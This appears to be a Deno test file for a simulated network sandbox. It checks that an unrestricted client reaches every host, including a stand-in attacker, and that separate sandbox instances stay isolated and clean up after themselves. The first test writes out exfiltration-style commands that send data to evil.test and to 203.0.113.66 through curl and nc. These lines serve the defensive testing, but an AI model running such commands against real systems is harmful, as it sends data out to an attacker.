/** The little internet itself: what a client without egress gets, and that nothing of it stays. */

import assert from "node:assert/strict";
import { tool } from "../../src/demo/command.ts";
import { Internet } from "../../src/demo/internet.ts";
import { suite } from "../support/suite.ts";

const test = suite();

test("internet: without egress everything reaches everyone, the attacker too", async (scene) => {
  const client = (...command: string[]) => tool(scene.internet.command(command));
  assert.equal(await client("dig", "+short", "secret.evil.test"), "203.0.113.66\n");
  assert.equal(await client("dig", "+tcp", "+short", "AAAA", "site.test"), "2001:db8:20::20\n");
  const ca = ["--cacert", scene.internet.caFile];
  assert.equal(await client("curl", "-sS", ...ca, "https://site.test/x"), "GET /x 0\n");
  assert.equal(await client("curl", "-sS", "-d", "s", "http://evil.test/y"), "POST /y 1\n");
  const send = 'echo "$0" | nc $1 -w 1 203.0.113.66 9000';
  assert.equal(await client("sh", "-c", send, "raw", "-N"), "taken\n");
  assert.equal(await client("sh", "-c", send, "datagram", "-u"), "datagram\n");
  const received = await scene.received();
  const kinds = new Set(received.map((item) => item.kind));
  assert.deepEqual([...kinds].sort(), ["connection", "dns", "request", "tcp", "udp"]);
  await assert.rejects(scene.attackerGotNothing(), /reached the attacker/);
});

Deno.test("internet: two at once do not meet, and closing twice is no error", async () => {
  const [first, second] = await Promise.all([Internet.create(), Internet.create()]);
  try {
    await tool(first.command(["dig", "+short", "site.test"]));
    await Promise.all([first.world.settle(), second.world.settle()]);
    assert.equal(first.received.length, 1);
    assert.equal(second.received.length, 0);
  } finally {
    await Promise.all([first.close(), second.close()]);
  }
  await first.close();
  const names = await tool(["ip", "netns", "list"]);
  for (const { client } of [first, second]) assert.ok(!names.includes(client), names);
  await assert.rejects(Deno.stat(first.folder), Deno.errors.NotFound);
});
